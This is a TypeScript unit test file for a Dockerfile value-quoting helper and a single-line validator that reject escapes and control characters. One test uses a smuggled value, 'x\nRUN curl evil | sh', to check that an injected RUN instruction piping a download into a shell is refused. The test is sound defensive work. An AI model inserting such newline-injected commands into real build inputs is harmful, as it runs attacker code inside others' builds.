import { assertSingleLine, dockerfileQuote } from '../../../bake/common/dockerfile-quote';
import { ExitCode } from '../../../bake/common/errors';

describe('dockerfileQuote', () => {
  test('a double-quoted word with \\, " and $ escaped, nothing else changed', () => {
    expect(dockerfileQuote('https://proxy.golang.org,direct')).toBe('"https://proxy.golang.org,direct"');
    expect(dockerfileQuote('a"b')).toBe('"a\\"b"');
    expect(dockerfileQuote('C:\\go')).toBe('"C:\\\\go"');
    // BuildKit expands $VAR inside double quotes: escaped, it stays text.
    expect(dockerfileQuote('$HOME/go ${GOPATH}')).toBe('"\\$HOME/go \\${GOPATH}"');
    expect(dockerfileQuote("it's fine")).toBe('"it\'s fine"');
  });

  test('refuses a value that would end its line', () => {
    expect(() => dockerfileQuote('x\nRUN curl evil | sh')).toThrow(
      expect.objectContaining({ exitCode: ExitCode.InvalidRecipe }),
    );
  });
});

describe('assertSingleLine', () => {
  test('passes printable text, refuses every control character (tab, CR, NUL, DEL) by name', () => {
    expect(() => assertSingleLine('GOFLAGS', '-mod=readonly -trimpath')).not.toThrow();
    expect(() => assertSingleLine('GOFLAGS', 'ünïcödé ok')).not.toThrow();
    for (const bad of ['a\tb', 'a\rb', 'a\u0000b', 'a\u007fb', 'a\u001bb'])
      expect(() => assertSingleLine('GOFLAGS', bad)).toThrow(
        `GOFLAGS ${JSON.stringify(bad)} contains a line break or control character; ` +
          'images take single-line values only',
      );
  });
});
